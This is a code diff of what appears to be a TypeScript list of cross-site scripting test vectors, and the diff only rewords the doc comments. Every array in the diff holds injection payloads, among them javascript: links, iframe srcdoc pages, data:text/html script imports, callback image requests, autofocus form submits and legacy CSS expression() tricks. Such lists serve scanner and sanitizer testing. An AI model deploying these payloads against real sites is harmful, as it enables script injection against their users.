@@ -42,7 +42,7 @@ export const codeAddresses: Vector[] = [
 	'<math><a xlink:href=javascript:RUN>x</a></math>',
 ]
 
-/** Whole pages in an address or an attribute. */
+/** Puts whole pages in an address or an attribute. */
 export const pagesInside: Vector[] = [
 	(run) => `<iframe srcdoc="${page(run)}"></iframe>`,
 	(run) => `<iframe srcdoc="${decimals(page(run))}"></iframe>`,
@@ -58,7 +58,7 @@ export const pagesInside: Vector[] = [
 	'<link rel=import href="data:text/html,<script>RUN</script>">',
 ]
 
-/** What runs nothing but asks for something, and so tells somebody that it was taken for markup. */
+/** Holds what runs nothing but asks for something, and so tells somebody that it was taken for markup. */
 export const requests: Vector[] = [
 	'<img src=/xss-NUM>',
 	'<img srcset="/xss-NUM 1x">',
@@ -82,7 +82,7 @@ export const requests: Vector[] = [
 	'<form action=/xss-NUM><input autofocus onfocus=form.submit()></form>',
 ]
 
-/** What old browsers took for code in a style. */
+/** Old browsers took this for code in a style. */
 export const styles: Vector[] = [
 	'<b style="width:expression(RUN)">x</b>',
 	'<b style="behavior:url(javascript:RUN)">x</b>',
